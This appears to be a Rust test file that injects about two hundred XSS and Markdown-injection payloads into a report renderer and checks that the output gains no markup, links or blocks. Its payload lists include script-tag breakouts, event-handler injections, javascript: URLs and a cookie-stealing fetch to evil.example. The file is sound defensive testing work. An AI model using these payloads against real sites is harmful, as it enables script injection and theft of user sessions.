//! Puts text that resembles markup into the report's fields for foreign text, and checks the
//! elements that an HTML parser and a Markdown parser then find.

#![allow(clippy::print_stdout, reason = "the test prints its measurements")]

use runner_engine::time::boot_time;
use std::collections::BTreeSet;

use pulldown_cmark::{Event, Options, Parser, Tag};
use scraper::{Html, Selector};

use super::render;
use crate::report::{markdown, sample_tests as sample};

/// Markup in which a script may hide. `X` is replaced by the script.
const SHAPES: [&str; 27] = [
    "<script>X</script>",
    "</script><script>X</script>",
    "</style><script>X</script>",
    "</title><script>X</script>",
    "</textarea><script>X</script>",
    "--><script>X</script><!--",
    "]]><script>X</script>",
    "\"><script>X</script>",
    "'><script>X</script>",
    "\" onmouseover=\"X",
    "' onfocus='X' autofocus='",
    "` onclick=X `",
    "<img src=x onerror=X>",
    "<img src=http://evil.example/X>",
    "<svg onload=X>",
    "</svg><svg/onload=X>",
    "</desc></svg><img src=//evil.example onerror=X>",
    "<iframe srcdoc=\"<script>X</script>\">",
    "<a href=\"javascript:X\">x</a>",
    "<form action=https://evil.example/X><input name=x autofocus onfocus=X>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/X\">",
    "<link rel=stylesheet href=//evil.example/X.css>",
    "<style>@import url(http://evil.example/X);</style>",
    "<object data=\"data:text/html,<script>X</script>\">",
    "<base href=\"http://evil.example/X\">",
    "</summary></details><details open ontoggle=X>",
    "<ScRiPt\n/src=//evil.example/X>",
];

/// Scripts, some of them in encodings that a later step might undo.
const SCRIPTS: [&str; 8] = [
    "alert(1)",
    "fetch('http://evil.example/'+document.cookie)",
    "\\u0061lert(1)",
    "&#97;lert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{202e}\u{0}alert(1)\u{2028}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Text that Markdown would treat as markup.
const MARKDOWN: [&str; 21] = [
    "![x](http://evil.example/x.png)",
    "!\\[x\\](http://evil.example/x.png)",
    "\\![x](http://evil.example)",
    "[x](javascript:alert(1))",
    "\\[x\\](javascript:alert(1))",
    "\\\\[x\\\\](javascript:alert(1))",
    "[x][y]\n\n[y]: http://evil.example",
    "[y]: http://evil.example \"t\"",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`` ` `` <img src=x onerror=alert(1)>",
    "`\n\n<script>alert(1)</script>",
    "| a | b |\n| - | - |\n| <b>x</b> | ![x](//evil.example) |",
    "\n\n<div onclick=alert(1)>\n\n",
    "[^1]: <script>alert(1)</script>",
    "![x][http://evil.example]",
    "[![x](//evil.example)](//evil.example)",
    "\u{1b}]8;;http://evil.example\u{7}x\u{1b}]8;;\u{7}",
    "<!-- --> <script>alert(1)</script>",
    "\r\n# forged heading\r\n<b>",
];

fn payloads() -> Vec<String> {
    let scripts = SHAPES.iter().flat_map(|shape| SCRIPTS.iter().map(|it| shape.replace('X', it)));
    let all: Vec<String> = scripts.chain(MARKDOWN.iter().map(|it| (*it).to_owned())).collect();
    assert!(all.len() >= 200, "{}", all.len());
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
    all
}

/// Elements that a page may have. Any other element comes from foreign text.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "header",
    "section",
    "footer",
    "h1",
    "h2",
    "h3",
    "p",
    "a",
    "b",
    "span",
    "small",
    "time",
    "code",
    "pre",
    "ol",
    "ul",
    "li",
    "dl",
    "dt",
    "dd",
    "div",
    "details",
    "summary",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "figure",
    "figcaption",
    "svg",
    "desc",
    "rect",
    "circle",
    "path",
    "polyline",
    "line",
    "g",
    "text",
];
/// Attributes that a page may have, apart from links.
const ATTRIBUTES: &[&str] = &[
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "id",
    "datetime",
    "open",
    "scope",
    "role",
    "aria-label",
    "aria-labelledby",
    "aria-hidden",
    "viewBox",
    "preserveAspectRatio",
    "width",
    "height",
    "x",
    "y",
    "x1",
    "x2",
    "y1",
    "y2",
    "cx",
    "cy",
    "r",
    "d",
    "points",
    "transform",
    "text-anchor",
];

/// Checks that a page contains only allowed elements and attributes, and returns the names of its
/// elements in order.
fn elements(page: &str, text: &str) -> Vec<String> {
    let html = Html::parse_document(page);
    let mut shape = Vec::new();
    for element in html.select(&Selector::parse("*").unwrap()) {
        let name = element.value().name();
        assert!(ELEMENTS.contains(&name), "{text} adds the element <{name}>");
        for (attribute, value) in element.value().attrs() {
            match attribute {
                "href" => assert!(value.starts_with('#'), "{text} links <{name}> to {value}"),
                _ => assert!(ATTRIBUTES.contains(&attribute), "{text} adds {attribute}"),
            }
        }
        shape.push(name.to_owned());
    }
    assert_eq!(html.select(&Selector::parse("meta[http-equiv]").unwrap()).count(), 1, "{text}");
    shape
}

#[test]
fn no_text_becomes_markup_in_a_page() {
    let began = boot_time();
    let usual = elements(&render(&sample::full("usual")), "usual");
    let payloads = payloads();
    for payload in &payloads {
        let report = sample::full(payload);
        // The same elements in the same order show that the payload changed only text.
        assert_eq!(elements(&render(&report), payload), usual, "{payload} changes the elements");
    }
    print_line(&format!(
        "hostile text in pages: {} payloads in {:?}",
        payloads.len(),
        boot_time().saturating_sub(began)
    ));
}

#[test]
fn foreign_text_is_shown_unchanged() {
    let page = render(&sample::full("<i>R&D</i> 'x' `y` \"z\""));
    let html = Html::parse_document(&page);
    let item = html.select(&Selector::parse("#alerts li").unwrap()).next().unwrap();
    assert_eq!(item.text().collect::<String>(), "<i>R&D</i> 'x' `y` \"z\"");
}

#[test]
fn no_text_becomes_markup_in_markdown() {
    let payloads = payloads();
    let blocks = |payload: &str| {
        let text = markdown(&sample::full(payload));
        let block = |it: &Event<'_>| match it {
            Event::Start(tag) => {
                matches!(tag, Tag::Heading { .. } | Tag::List(_) | Tag::Item | Tag::BlockQuote(_))
            }
            event => matches!(event, Event::Rule),
        };
        Parser::new_ext(&text, Options::all()).filter(block).count()
    };
    let usual = blocks("usual");
    for marker in ["# a", "- # a", "> # a", "---", "+ a", "* * *", "1. # a", "12) a", "1."] {
        assert_eq!(blocks(marker), usual, "{marker} adds a block");
    }
    for payload in &payloads {
        let text = markdown(&sample::full(payload));
        assert_eq!(blocks(payload), usual, "{payload} adds a block");
        for event in Parser::new_ext(&text, Options::all()) {
            match event {
                Event::Html(html) | Event::InlineHtml(html) => panic!("{payload} adds {html}"),
                Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
                    panic!("{payload} adds a link to {dest_url}")
                }
                Event::Start(Tag::CodeBlock(_) | Tag::HtmlBlock | Tag::BlockQuote(_)) => {
                    panic!("block from {payload}")
                }
                _ => {}
            }
        }
        assert!(!text.contains('\u{1b}'), "{payload}");
    }
    print_line(&format!("hostile text in markdown: {} payloads", payloads.len()));
}

/// Prints a line that the test harness does not capture.
fn print_line(line: &str) {
    use std::io::Write as _;
    let _closed = writeln!(std::io::stderr(), "{line}");
}
